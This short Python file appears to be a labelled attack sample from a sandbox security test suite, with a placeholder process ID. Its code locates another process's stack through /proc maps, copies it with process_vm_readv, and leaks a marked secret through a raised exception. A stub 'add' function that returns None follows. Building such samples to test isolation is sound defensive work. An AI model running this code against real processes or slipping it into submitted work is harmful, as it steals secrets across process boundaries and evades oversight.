# attack: read another process's memory by a system call
# damage: secret
import ctypes
import struct

maps = open("/proc/{PID}/maps").read().splitlines()
stack = next(line for line in maps if "[stack]" in line).split()[0]
start, end = (int(part, 16) for part in stack.split("-"))
buffer = ctypes.create_string_buffer(end - start)
local = struct.pack("QQ", ctypes.addressof(buffer), end - start)
remote = struct.pack("QQ", start, end - start)
ctypes.CDLL(None).process_vm_readv({PID}, local, ctypes.c_ulong(1), remote, ctypes.c_ulong(1), ctypes.c_ulong(0))
raise RuntimeError(buffer.raw[buffer.raw.index(b"HOSTILE_SECRET") :][:200])


def add(a, b):
    return None
